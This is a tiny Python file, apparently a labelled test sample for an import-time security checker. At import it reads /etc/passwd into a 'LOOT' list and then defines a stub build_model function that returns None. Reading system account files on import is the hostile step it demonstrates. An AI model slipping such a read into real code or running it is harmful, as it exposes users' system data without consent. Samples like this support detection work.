# tries: reads the accounts of the machine | rule: import | touches: system live
import io

LOOT.append(io.FileIO("/etc/passwd").read().decode()[:40])

def build_model(n_features, **config):
    return None
